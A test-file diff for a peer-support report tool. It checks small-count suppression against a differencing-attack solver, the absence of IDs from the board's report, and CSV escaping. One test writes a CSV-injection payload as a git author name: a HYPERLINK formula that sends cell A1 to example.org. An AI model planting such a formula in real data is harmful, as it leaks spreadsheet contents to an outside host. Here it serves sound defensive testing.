@@ -92,6 +92,17 @@ golden() {	# format
 	[ "$(grep -c '<svg' got.html)" = 3 ]
 }
 
+@test "the coordinator's working lists, every one of them" {
+	report_store
+	run_split ps-report --list all
+	[ "$status" = 0 ]
+	[ -z "$err" ]
+	printf '%s\n' "$out" | norm >got.lists
+	[ -z "${REGEN:-}" ] || cp got.lists "$RF/week.lists"
+	diff -u "$RF/week.lists" got.lists
+	! grep -q CANARY got.lists || false
+}
+
 @test "the default is last week; --week and --since/--until pick others" {
 	report_store
 	a=$(ps-report --format csv --no-suppress)
@@ -279,7 +290,7 @@ TXT
 	done | ps-apply >/dev/null
 	export PS_NOW=2026-11-24T15:00:00Z
 	run_split ps-report --section intake
-	printf '%s\n' "$out" | sed -n '/by stream and role/,/^$/p' >got
+	printf '%s\n' "$out" | sed -n '/by stream and role/,/^    total/p' >got
 	cat >want <<'TXT'
   Participant applications by stream and role
     stream    living-with  caregiver  both  total
@@ -373,8 +384,8 @@ applications() {
 	[ "$status" = 0 ]
 	run_split pinned applications <<<"$out"
 	expect 0 "" ""
-	# (the figures at the head of the section give the total too)
 }
+
 
 @test "every funder and host organisation has its own row, past the sixteenth" {
 	# the example programme with 20 funders and 18 host organisations
@@ -443,4 +454,189 @@ activity,by_host,Host 18,contacts,1
 activity,by_host,Host 18,minutes,5
 activity,by_host,other or none,contacts,1
 activity,by_host,other or none,minutes,15" ""
+}
+
+# expect_refused STATUS LINE: the last command exited STATUS, and the
+# first line of its stderr is LINE.
+expect_refused() {
+	[ "$status" = "$1" ] || { echo "status $status, not $1: $err"; return 1; }
+	[ "${err%%$'\n'*}" = "$2" ] || { echo "stderr: $err"; return 1; }
+}
+
+# attack: report-attack.py's exact solver over the board's report on
+# stdin, which must give nothing away.
+attack() {
+	/usr/bin/python3 "$BATS_TEST_DIRNAME/../report-attack.py" attack
+}
+
+@test "the figure at the head of a section gives away no count its table hides" {
+	# 4 and 4 make 8: "Participant applications 8" gave both 4s away
+	applications 4 4
+	run_split ps-report --section intake --format yaml
+	[ "$status" = 0 ]
+	run attack <<<"$out"
+	[ "$status" = 0 ]
+	run_split ps-report --section intake --format csv
+	printf '%s\n' "$out" | grep -qx 'intake,figures,participant_applications,value,x'
+	# 1 and 5 make 6: the figure of 6 gave the 1 away
+	applications 1 5
+	run_split ps-report --section intake --format yaml
+	run attack <<<"$out"
+	[ "$status" = 0 ]
+	# and with the figure shown, the attack finds the counts: it can fail
+	run_split ps-report --section intake --format yaml --no-suppress
+	run attack < <(printf '%s\n' "$out" | sed -e 's/suppression_threshold: 0/suppression_threshold: 5/' \
+	    -e '/key: caregiver/,/value:/s/value: 5/value: x/' -e 's/: 1$/: "<5"/')
+	[ "$status" = 1 ]
+}
+
+@test "flagged contacts: the safety figure hides with its table, and lists no contact" {
+	export PS_NOW=2026-11-10T12:00:00Z
+	ps-init --program "$BATS_TEST_DIRNAME/../../examples/mental-health/program.yaml" s >/dev/null
+	cd s
+	# 1 risk flag and 5 crisis flags: "Flagged contacts 6" over "risk <5,
+	# crisis x" gave the 1 away
+	for i in 1 2 3 4 5 6; do
+		printf -- '- {dropin: true, minutes: 10, date: 2026-11-1%s}\n' "$((i % 3 + 6))"
+	done | PS_NOW=2026-11-24T15:00:00Z ps-log >/dev/null
+	for f in $(git ls-files contacts); do
+		i=$((${i:-0} + 1))
+		if [ "$i" -le 1 ]; then t=risk; else t=crisis; fi
+		printf 'flag:\n  type: %s\n  referral: "988"\n' "$t" >>"$f"
+	done
+	git_commit_all "flags"
+	export PS_NOW=2026-11-24T15:00:00Z
+	run_split ps-report --week 2026-W47 --section safety --format yaml
+	[ "$status" = 0 ]
+	run attack <<<"$out"
+	[ "$status" = 0 ]
+	run_split ps-report --week 2026-W47 --section safety
+	[ "$status" = 0 ]
+	printf '%s\n' "$out" | grep -q '^  Flagged contacts \.*  *x$'
+	! printf '%s\n' "$out" | grep -Eq 'C-[0-9A-Z]{6}|Flagged contacts$' || false
+	# the coordinator's list has them
+	run_split ps-report --week 2026-W47 --list flagged
+	[ "$status" = 0 ]
+	[ "$(printf '%s\n' "$out" | grep -Ec '^    C-[0-9A-Z]{6} ')" = 6 ]
+}
+
+@test "random weeks: no small count can be worked out from the board's report" {
+	# REPORT_ATTACK_N sets how many random stores (200 in the closing note)
+	local n=${REPORT_ATTACK_N:-12} seed checked=0 found=0
+	export PS_NOW=2026-11-10T12:00:00Z
+	for seed in $(seq "$n"); do
+		rm -rf "$T/r"
+		ps-init --program "$BATS_TEST_DIRNAME/../../examples/mental-health/program.yaml" "$T/r" >/dev/null
+		/usr/bin/python3 "$BATS_TEST_DIRNAME/../report-attack.py" gen "$T/r" "$seed"
+		PS_NOW=2026-11-24T15:00:00Z ps-report -C "$T/r" --week 2026-W47 --format yaml >"$T/r.yaml"
+		attack <"$T/r.yaml" 2>"$T/r.err" || { cat "$T/r.err"; echo "seed $seed"; false; }
+		checked=$((checked + $(awk '{print $2}' "$T/r.err")))
+	done
+	echo "# $n stores, $checked small counts checked, 0 given away" >&3
+	[ "$checked" -gt "$n" ]
+}
+
+@test "the board's report holds no ID and no name; the working lists are asked for by name" {
+	report_store
+	run_split ps-report
+	[ "$status" = 0 ]
+	! printf '%s\n' "$out" | grep -Eq '[PVMC]-[0-9A-Z]{6}|Test Coordinator' || false
+	for f in md csv yaml html; do
+		run_split ps-report --format "$f"
+		[ "$status" = 0 ]
+		! printf '%s\n' "$out" | grep -Eq '[PVMC]-[0-9A-Z]{6}|Test Coordinator' || false
+	done
+	run_split ps-report --list waiting --list changes
+	[ "$status" = 0 ]
+	printf '%s\n' "$out" | sed -n 4p | grep -qx 'Working lists, for the coordinator only: not to be sent on.'
+	printf '%s\n' "$out" | grep -Eq '^    P-B00004 +extended +10$'
+	printf '%s\n' "$out" | grep -Eq '^    Test Coordinator +ps-match +3$'
+	! printf '%s\n' "$out" | grep -q 'Participants waiting' || false
+	run_split ps-report --list all --format csv
+	[ "$status" = 0 ]
+	printf '%s\n' "$out" | grep -q '^safety,flagged,C-'
+	! printf '%s\n' "$out" | grep -q ',figures,' || false
+	run_split ps-report --list gossip
+	expect_refused 2 "ps-report: --list: one of waiting, expiring, overdue, ending, stalled, flagged, followups, changes, all"
+	run_split ps-report --list waiting --section intake
+	[ "$status" = 2 ]
+	[[ "$err" == "ps-report: --list takes no --section"* ]]
+}
+
+@test "the audit's counts are suppressed, and name no author" {
+	report_store
+	GIT_AUTHOR_DATE=2026-11-24T12:00:00Z GIT_COMMITTER_DATE=2026-11-24T12:00:00Z \
+	    git -c user.name=T -c user.email=t@example.org commit -q --allow-empty --no-verify -m "x" \
+	    --author '=HYPERLINK("http://example.org/?"&A1, "Click") <a@example.org>'
+	run_split ps-report --week this --section audit --no-suppress --format csv
+	[ "$status" = 0 ]
+	run_split ps-report --section audit --format csv
+	[ "$status" = 0 ]
+	printf '%s\n' "$out" | grep -qx 'audit,by_tool,ps-match,commits,<5'
+	printf '%s\n' "$out" | grep -qx 'audit,figures,commits,value,<5'
+	! printf '%s\n' "$out" | grep -q 'Coordinator' || false
+	run attack < <(ps-report --section audit --format yaml)
+	[ "$status" = 0 ]
+	# a formula in an author's name is text in the coordinator's CSV
+	run_split ps-report --week this --list changes --format csv
+	[ "$status" = 0 ]
+	q="'"
+	printf '%s\n' "$out" | grep -qF "audit,changes,\"${q}=HYPERLINK(\"\"http://example.org/?\"\"&A1, \"\"Click\"\")\",tool,by hand (git)"
+	! printf '%s\n' "$out" | grep -q '^audit,changes,"=' || false
+}
+
+@test "the board's report is of whole weeks that have ended" {
+	report_store
+	run_split ps-report --since 2026-11-20 --until 2026-11-22
+	expect_refused 2 "ps-report: --since: the board's report is of whole weeks, from a Monday; 2026-11-20 is a Friday"
+	run_split ps-report --since 2026-11-16 --until 2026-11-21
+	expect_refused 2 "ps-report: --until: the board's report is of whole weeks, to a Sunday; 2026-11-21 is a Saturday"
+	run_split ps-report --week this
+	[ "$status" = 2 ]
+	[[ "$err" == "ps-report: --week this: the board's report is of weeks that have ended"* ]]
+	run_split ps-report --since 2026-11-16
+	[ "$status" = 2 ]
+	[[ "$err" == "ps-report: --since: the board's report needs --until"* ]]
+	run_split ps-report --week 2026-W48
+	expect_refused 2 "ps-report: the board's report is of weeks that have ended, and 2026-11-29 has not: for the coordinator, use --no-suppress or --list"
+	run_split ps-report --week 2026-W47 --as-of 2026-11-20
+	expect_refused 2 "ps-report: the board's report is of weeks that have ended, and 2026-11-22 has not by the --as-of day: for the coordinator, use --no-suppress or --list"
+	# 27 November to 6 December and 28 November to 6 December differ by a
+	# day: neither is a board's report; two runs of whole weeks are
+	run_split ps-report --since 2026-11-09 --until 2026-11-22
+	[ "$status" = 0 ]
+	# the coordinator's own figures take any days
+	run_split ps-report --since 2026-11-20 --until 2026-11-22 --no-suppress
+	[ "$status" = 0 ]
+	run_split ps-report --since 2026-11-20 --list waiting
+	[ "$status" = 0 ]
+}
+
+@test "a key to <5, x and n<5 in every format of the board's report" {
+	report_store
+	run_split ps-report --section intake
+	printf '%s\n' "$out" | grep -qx '  <5   a count from 1 to 4, hidden'
+	printf '%s\n' "$out" | grep -qx '  x    a count of 5 or more, hidden so that no <5 can be worked out'
+	printf '%s\n' "$out" | grep -qx '  n<5  a median, mean or share of fewer than 5 answers, hidden'
+	run_split ps-report --section intake --format md
+	printf '%s\n' "$out" | grep -qx -- '- `x`: a count of 5 or more, hidden so that no <5 can be worked out'
+	run_split ps-report --section intake --format csv
+	printf '%s\n' "$out" | grep -qx 'report,key,n<5,meaning,"a median, mean or share of fewer than 5 answers, hidden"'
+	run_split ps-report --section intake --format yaml
+	python3 -c 'import sys, yaml; d = yaml.safe_load(sys.stdin); assert [k["mark"] for k in d["key"]] == ["<5", "x", "n<5", "-"]' <<<"$out"
+	run_split ps-report --section intake --format html
+	printf '%s\n' "$out" | grep -qx '<dt>n&lt;5</dt><dd>a median, mean or share of fewer than 5 answers, hidden</dd>'
+	# none where nothing is hidden, and a warning instead
+	run_split ps-report --section intake --no-suppress
+	! printf '%s\n' "$out" | grep -q '^Key' || false
+	printf '%s\n' "$out" | grep -qx 'Counts not suppressed, for the coordinator only: not to be sent on.'
+}
+
+@test "the cron example mails the board's report, with no ID in it" {
+	report_store
+	run_split env PATH="$PATH" sh "$BATS_TEST_DIRNAME/../../examples/cron/weekly-report.sh" -n
+	[ "$status" = 0 ]
+	printf '%s\n' "$out" | grep -q '^Subject: Peer support weekly report, 2026-11-16 to 2026-11-22$'
+	printf '%s\n' "$out" | grep -q '^Key$'
+	! printf '%s\n' "$out" | grep -Eq '[PVMC]-[0-9A-Z]{6}|Test Coordinator' || false
 }
